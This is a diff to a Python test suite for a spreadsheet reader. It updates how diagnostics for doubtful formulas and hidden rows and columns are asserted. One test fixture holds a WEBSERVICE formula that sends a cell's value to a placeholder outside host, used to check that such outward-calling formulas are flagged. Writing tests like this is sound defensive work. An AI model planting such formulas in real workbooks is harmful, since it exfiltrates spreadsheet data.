@@ -108,13 +108,13 @@ def test_une_formule_sans_resultat_est_une_erreur_avec_sa_case() -> None:
 
 def test_des_formules_jamais_calculees_qui_valent_zero_sont_a_confirmer() -> None:
     grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_formula("F2", "=6*7")), "xlsx")
-    assert causes(grid) == [("confirm", "formula_doubtful", 2, None)]
+    assert causes(grid) == [("confirm", "formula_doubtful", 2, "F2")]
 
 
 def test_une_formule_qui_appelle_dehors_est_dite_et_seule_sa_valeur_est_lue() -> None:
     formula = '=_xlfn.WEBSERVICE("http://exemple.fr/?"&A2)'
     grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_formula("F2", formula, None, 3)), "xlsx")
-    assert causes(grid) == [("information", "formula_outside", 2, None)]
+    assert causes(grid) == [("information", "formula_outside", 2, "F2")]
     assert column(grid, "valeur")[0] == "3"
 
 
@@ -137,7 +137,7 @@ def test_une_case_en_erreur_garde_son_erreur(error: str) -> None:
 def test_une_case_en_erreur_d_un_ancien_classeur_garde_son_erreur() -> None:
     grid = read_workbook(xls([HEADINGS, data_row(1), data_row(2, "#N/A")], hidden=[1]), "xls")
     assert column(grid, "valeur") == ["10", "#N/A"]
-    assert causes(grid) == [("information", "hidden_rows", 2, None)]
+    assert grid.hidden_rows == {2}
 
 
 def test_une_case_en_erreur_d_un_ods_garde_son_erreur() -> None:
@@ -155,16 +155,14 @@ def test_des_lignes_et_colonnes_masquees_sont_lues_et_dites() -> None:
         sheet.set_column(3, 3, None, None, {"hidden": True})
 
     grid = read_workbook(one_sheet(hide), "xlsx")
-    assert causes(grid) == [
-        ("information", "hidden_rows", 3, None),
-        ("information", "hidden_columns", None, None),
-    ]
+    assert grid.hidden_rows == {3}
+    assert causes(grid) == [("information", "hidden_columns", None, None)]
     assert column(grid, "valeur") == ["10", "20", "30", "40"]
 
 
 def test_des_lignes_masquees_d_un_ods_sont_dites() -> None:
     rows = [ods_row(*HEADINGS), ods_row(*data_row(1), attributes='table:visibility="filter"')]
-    assert causes(read_workbook(ods(*rows), "ods")) == [("information", "hidden_rows", 2, None)]
+    assert read_workbook(ods(*rows), "ods").hidden_rows == {2}
 
 
 def merge_structures(sheet: Worksheet, workbook: Workbook) -> None:
